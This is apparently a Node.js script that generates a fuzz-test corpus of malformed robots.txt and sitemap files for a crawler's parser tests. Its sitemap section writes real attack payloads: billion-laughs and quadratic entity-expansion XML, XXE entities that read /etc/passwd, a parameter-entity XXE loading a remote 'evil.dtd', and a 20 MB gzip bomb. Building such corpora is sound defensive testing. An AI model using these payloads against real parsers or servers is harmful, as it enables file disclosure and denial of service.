// Writes the saved corpus of nasty inputs that the fuzz tests replay (robots/ and sitemaps/).
// The files are committed; this script documents how each was made and can rebuild them:
//   node test/fuzz/corpus/make-corpus.mjs
// Inputs larger than about 8 KB are stored gzipped (`name.gz`); the tests gunzip them. Files
// whose raw bytes are the point (a truncated gzip, a gzip bomb) end in `.bin` and are not touched.

import { mkdirSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';

const here = fileURLToPath(new URL('.', import.meta.url));
const STORE_GZIPPED_ABOVE = 8 * 1024;

/** @param {string} area @param {string} name @param {string | Uint8Array} content */
function save(area, name, content) {
  mkdirSync(`${here}${area}`, { recursive: true });
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : Buffer.from(content);
  const gzip = !name.endsWith('.bin') && bytes.length > STORE_GZIPPED_ABOVE;
  writeFileSync(`${here}${area}/${name}${gzip ? '.gz' : ''}`, gzip ? gzipSync(bytes, { level: 9 }) : bytes);
}
/** Text as UTF-8, in the latin1 "byte string" form `save` takes. */
const utf8 = (text) => Buffer.from(text, 'utf8').toString('latin1');

// --- robots.txt --------------------------------------------------------------------------------

// The line cap is 16,663 bytes (2083 × 8 − 1): a rule line one byte longer, then a rule after it.
{
  const head = 'Disallow: /long/';
  const line = head + 'a'.repeat(16_664 - head.length - 1) + 'Z';
  save('robots', 'line-16664-bytes.txt', `User-agent: *\n${line}\nDisallow: /after-the-long-line\n`);
}
save('robots', 'bom-only.txt', '\xef\xbb\xbf');
save('robots', 'bom-partial-then-rules.txt', '\xef\xbbUser-agent: *\r\nDisallow: /x\r\n\xef\xbb\xbfDisallow: /y\r\n');
save(
  'robots',
  'nul-riddled.txt',
  'User-\0agent: *\nDisallow: /a\0/b\n\0\0\0\nAllow:\0/c\nUser-agent: bot\0bot\nDisallow: /\0\n' +
    '\0'.repeat(512) +
    '\nDisallow: /d\0',
);
save(
  'robots',
  'html-page.txt',
  '<!DOCTYPE html>\n<html><head><title>404 Not Found</title>\n<script>var disallow = "/a:b"; user-agent: 1;</script></head>\n' +
    '<body>\n<h1>Not Found</h1>\n<p>User-agent: * Disallow: / <a href="/x:y">Sitemap: here</a></p>\n<pre>\nUser-agent: *\nDisallow: /inside-pre\n</pre>\n</body></html>\n',
);
save(
  'robots',
  'stars-10000.txt',
  `User-agent: *\nDisallow: /${'*'.repeat(10_000)}x\nAllow: /${'*'.repeat(9_999)}$\nDisallow: ${'$'.repeat(10_000)}\n`,
);
save('robots', 'disallow-1mb.txt', 'User-agent: *\n' + 'Disallow: /\n'.repeat(Math.ceil((1024 * 1024) / 12)));
save(
  'robots',
  'backtracking-bait.txt',
  'User-agent: *\n' +
    `Disallow: /${'*a'.repeat(40)}*b\n` +
    `Disallow: /${'a*'.repeat(40)}$\n` +
    `Allow: /*${'a'.repeat(200)}b*$\n` +
    `Disallow: /*%2A*%24*${'%'.repeat(50)}*$\n`,
);
save(
  'robots',
  'invalid-utf8.txt',
  'User-agent: \xff\xfebot\nDisallow: /\xc3\x28\nDisallow: /\xc0\xaf\nAllow: /\xed\xa0\x80\nDisallow: /\xe2\x82\nSitemap: http://h.test/\xf8\x88\x80\x80\x80\n' +
    utf8('User-agent: bøt\nDisallow: /日本/*$\n'),
);
save(
  'robots',
  'line-endings.txt',
  'User-agent: *\rDisallow: /cr\r\nAllow: /crlf\n\rDisallow: /lfcr\r\r\nDisallow: /crcrlf\n\n\r\r',
);
{
  // 1,000 groups, each naming a different agent (rule sets are cached per agent; the cache is bounded).
  let text = '';
  for (let i = 0; i < 1000; i++)
    text += `User-agent: bot${String.fromCharCode(97 + (i % 26))}${i}\nDisallow: /${i}/*\n\n`;
  save('robots', 'groups-1000.txt', text);
}

// --- sitemaps ----------------------------------------------------------------------------------

{
  let entities = '<!ENTITY lol "lol">';
  let previous = '&lol;';
  for (let level = 1; level <= 9; level++) {
    entities += `\n<!ENTITY lol${level} "${previous.repeat(10)}">`;
    previous = `&lol${level};`;
  }
  save(
    'sitemaps',
    'billion-laughs.xml',
    `<?xml version="1.0"?>\n<!DOCTYPE urlset [\n${entities}\n]>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n` +
      '<url><loc>http://h.test/&lol9;</loc><lastmod>&lol9;&lol9;</lastmod></url>\n</urlset>\n',
  );
}
// One 50 KB entity referenced 50,000 times: 2.5 GB if expanded.
save(
  'sitemaps',
  'quadratic-blowup.xml',
  `<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY a "${'a'.repeat(50_000)}">]>\n<urlset><url><loc>http://h.test/${'&a;'.repeat(50_000)}</loc></url></urlset>\n`,
);
save(
  'sitemaps',
  'xxe-file.xml',
  '<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY xxe2 PUBLIC "-//x//EN" "file:///etc/hostname">]>\n' +
    '<urlset><url><loc>http://h.test/&xxe;</loc><lastmod>&xxe2;</lastmod></url></urlset>\n',
);
save(
  'sitemaps',
  'xxe-parameter-entity.xml',
  '<?xml version="1.0"?>\n<!DOCTYPE sitemapindex [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote; <!ENTITY % file SYSTEM "file:///etc/passwd">]>\n' +
    '<sitemapindex><sitemap><loc>http://h.test/%file;&send;</loc></sitemap></sitemapindex>\n',
);
save(
  'sitemaps',
  'xxe-feeds.xml',
  '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<rss version="2.0"><channel><item><link>http://h.test/&xxe;</link></item></channel></rss>\n',
);
save(
  'sitemaps',
  'xxe-atom-attribute.xml',
  '<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="http://h.test/&xxe;"/><updated>&xxe;</updated></entry></feed>\n',
);
save(
  'sitemaps',
  'deep-nesting-10000.xml',
  `<urlset><url><loc>http://h.test/</loc>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}</url></urlset>\n`,
);
save('sitemaps', 'deep-nesting-unclosed-10000.xml', `<urlset>${'<url>'.repeat(10_000)}<loc>http://h.test/</loc>`);
save(
  'sitemaps',
  'deep-nesting-rss-10000.xml',
  `<rss><channel>${'<item>'.repeat(10_000)}<link>http://h.test/</link>${'</item>'.repeat(10_000)}</channel></rss>`,
);
// Found by these fuzzers: closing-tag look-alikes that the entry scanner re-scans from far back
// (quadratic time; see sitemap.fuzz.test.ts). Small here, so the replay stays fast.
save(
  'sitemaps',
  'closing-tag-flood.xml',
  `<urlset><url><loc><![CDATA[${'</url>'.repeat(1000)}]]></loc></url>${'url>'.repeat(1000)}</urlset>`,
);
{
  const whole = gzipSync(Buffer.from(`<urlset>${'<url><loc>http://h.test/a</loc></url>'.repeat(200)}</urlset>`));
  save('sitemaps', 'gzip-truncated.bin', whole.subarray(0, whole.length >> 1));
}
save('sitemaps', 'gzip-bomb-20mb.bin', gzipSync(Buffer.alloc(20 * 1024 * 1024, 0x20), { level: 9 }));
save(
  'sitemaps',
  'utf16le-bom.xml',
  Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from('<urlset><url><loc>http://h.test/ü</loc></url></urlset>', 'utf16le'),
  ]),
);
save(
  'sitemaps',
  'html-page.xml',
  '<!DOCTYPE html><html><head><title>Sitemap</title></head><body><a href="http://h.test/a">&nbsp;a</a></body></html>',
);
save(
  'sitemaps',
  'binary-with-lt.bin',
  Buffer.from([0x3c, 0x00, 0xff, 0xfe, 0x3c, 0x21, 0x5b, 0x3c, 0x3f, 0x00, 0x1f, 0x8b]),
);
